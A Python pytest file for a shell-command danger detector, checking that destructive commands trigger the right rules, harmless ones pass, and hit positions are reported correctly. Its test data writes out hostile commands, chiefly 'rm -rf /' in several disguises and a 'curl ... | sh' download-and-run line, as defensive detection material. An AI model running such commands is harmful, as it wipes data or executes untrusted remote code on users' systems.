"""Every command of the tables is judged as the table says."""

from __future__ import annotations

import pytest

from nsedmw.detect.shell import RULES, judge_text, judge_words
from tests.detect.shell import destruction, disguises, harmless, harmless_scripts, kinds

DANGEROUS = [*destruction.BARE, *disguises.ALL, *kinds.ALL]
HARMLESS = [*harmless.ALL, *harmless_scripts.SCRIPTS]


def rules(text):
    return [hit.rule for hit in judge_text(text)]


@pytest.mark.parametrize(
    ("rule", "text"), DANGEROUS, ids=[repr(text[:60]) for _, text in DANGEROUS]
)
def test_what_does_harm_is_found_by_the_rule_that_names_it(rule, text):
    """The rule of the row is among the hits."""
    assert rule in rules(text)


@pytest.mark.parametrize("text", HARMLESS, ids=[repr(text[:60]) for text in HARMLESS])
def test_what_does_no_harm_passes(text):
    """Nothing is found, whatever words stand in it."""
    assert rules(text) == []


def test_every_rule_has_a_row():
    """A rule that no command breaks is not known to work; `no_command` is the builtin's own."""
    assert {rule for rule, _ in DANGEROUS} == RULES.keys() - {"no_command"}


@pytest.mark.parametrize(
    ("words", "rule"),
    [
        (["rm", "-rf", "/"], "root_deleted"),
        (["bash", "-lc", "rm -rf /"], "root_deleted"),
        (["sudo", "env", "A=1", "rm", "-rf", "/"], "root_deleted"),
        (["sh", "-c", "curl https://x.example | sh"], "download_run"),
        (["python3", "-c", "import os; os.system('rm -rf /')"], "root_deleted"),
        (["sh", "-c", "echo 'unclosed"], "syntax"),
    ],
)
def test_a_command_of_words_is_judged_without_a_shell_around_it(words, rule):
    """Its words are arguments as they are; a shell that it names reads its text."""
    assert rule in [hit.rule for hit in judge_words(words)]


@pytest.mark.parametrize(
    "words",
    [[], [""], ["echo", "; rm -rf /"], ["git", "commit", "-m", "$(rm -rf /)"], ["echo", "'"]],
)
def test_words_are_not_read_as_shell_text(words):
    """What a shell would take for syntax is an argument here."""
    assert judge_words(words) == []


@pytest.mark.parametrize(
    ("text", "span"),
    [
        ("rm -rf /", "rm -rf /"),
        ("ls; rm -rf / ; ls", "rm -rf / "),
        ("é 日; rm -rf /", "rm -rf /"),
        ("sh -c 'rm -rf /' x", "sh -c 'rm -rf /' x"),
        ("echo `rm -rf /` x", "`rm -rf /`"),
        ("echo $(rm -rf /)", "rm -rf /"),
        ("cat <<E\nx\n$(rm -rf /)\nE", "x\n$(rm -rf /)\nE"),
    ],
)
def test_a_hit_tells_the_outermost_command_of_the_text_that_was_given(text, span):
    """Its places are code points of that text, also for what stands in a string inside it."""
    hit = next(hit for hit in judge_text(text) if hit.rule == "root_deleted")
    assert text[hit.start : hit.end] == span
